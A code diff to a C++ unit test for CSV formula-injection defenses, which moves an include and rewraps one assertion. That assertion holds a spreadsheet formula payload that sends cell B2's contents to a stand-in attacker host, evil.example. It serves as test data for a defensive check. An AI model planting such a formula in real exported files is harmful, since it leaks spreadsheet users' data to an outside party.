@@ -1,5 +1,7 @@
 // CSV formula injection (issue 12, item 11): a text cell another party chose must reach the
 // reader's spreadsheet as text, never as a formula; numbers must stay numbers.
+#include "engine/csv_cells.h"
+
 #include <gtest/gtest.h>
 
 #include <filesystem>
@@ -7,7 +9,6 @@
 #include <sstream>
 
 #include "common/crypto.h"
-#include "engine/csv_cells.h"
 #include "engine/protected_run.h"
 
 namespace cleanroom {
@@ -109,7 +110,8 @@ TEST_F(CsvResult, ParquetResultsAreUntouched) {
   auto rows = r->rows();
   ASSERT_TRUE(rows.ok());
   ASSERT_EQ(rows->size(), 1u);
-  EXPECT_EQ(std::get<std::string>((*rows)[0][0]), "=HYPERLINK(\"http://evil.example/?d=\"&B2,\"x\")");
+  EXPECT_EQ(std::get<std::string>((*rows)[0][0]),
+            "=HYPERLINK(\"http://evil.example/?d=\"&B2,\"x\")");
 }
 
 }  // namespace
